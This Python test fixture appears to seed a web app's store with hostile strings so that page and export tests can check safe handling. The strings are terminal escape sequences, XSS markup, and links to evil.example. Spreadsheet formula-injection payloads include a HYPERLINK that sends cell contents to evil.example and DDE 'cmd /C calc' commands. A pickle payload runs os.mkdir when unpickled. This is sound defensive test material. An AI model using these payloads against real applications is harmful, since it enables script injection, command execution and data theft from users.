"""A store whose every text is hostile: tasks, labels, keywords, notes, sweeps, history; a payload."""

from __future__ import annotations

import json
import os
from collections.abc import Sequence
from pathlib import Path

from sqlalchemy import inspect

from core.store import Store
from tests.pages.filled_store import Filled, fill

__all__ = ["COMMANDS", "FORMULAS", "KEYWORD", "MARKUP", "Payload", "fill_hostile"]

COMMANDS = "\x1b]0;owned\x07\x9b2J"
"""What a terminal would obey."""

MARKUP = (
    f"{COMMANDS}<img src=x onerror=window.owned=1><script>window.owned=1</script><b>bold</b>"
    "<a href='https://evil.example/a'>a</a> **strong** [link](https://evil.example/m) "
    "![picture](https://evil.example/p.png) $x^2$ :material/delete: :red[red] %{x} https://evil.example/u"
)
"""Commands, HTML, Markdown, LaTeX, directives of Streamlit, templates of Plotly."""

KEYWORD = "<img/src=x/onerror=window.owned=1>"
_JSON = frozenset(["config", "facts", "report", "tags"])
_TASK, _LABEL = "chunk", "MISC"
"""A task and a type of spans of the store, to whose names MARKUP is added wherever they stand."""


def fill_hostile(url: str, seeds: Sequence[int]) -> Filled:
    """The store of the pages' tests, with MARKUP in every text that is a user's."""
    in_json = json.dumps(MARKUP)[1:-1]
    filled = fill(url, seeds=seeds, active=False, broken=True)
    store = Store.open(url)
    try:
        with store.transaction() as connection:
            for table in inspect(connection).get_table_names():
                if table == "alembic_version":
                    continue
                for column in inspect(connection).get_columns(table):
                    if not str(column["type"]).startswith(("TEXT", "VARCHAR", "JSON")):
                        continue
                    name = column["name"]
                    for word in (_TASK, _LABEL):
                        connection.exec_driver_sql(
                            f'UPDATE "{table}" SET "{name}" = replace("{name}", ?, ?)',
                            (word, f"{word} {in_json if name in _JSON else MARKUP}"),
                        )
            connection.exec_driver_sql("UPDATE runs SET sweep = ?, note = ?", (MARKUP, MARKUP))
        ids = [run.id for run in store.runs(archived=None)]
        store.add_keywords(ids, [KEYWORD])
        for run_id in ids:
            store.add_event(run_id, "note", MARKUP)
    finally:
        store.close()
    return filled


FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0", "\t=1+cmd|'x'!A0", " =IMPORTXML(A1)", "＝cmd|'x'!A0",
    "a;=HYPERLINK(A1)", "a\t=HYPERLINK(A1)", "=http://evil.example/a", r"='\\evil\share\[book]x'!A1",
)  # fmt: skip


class Payload:
    """Unpickled, it makes a folder."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.marker),)
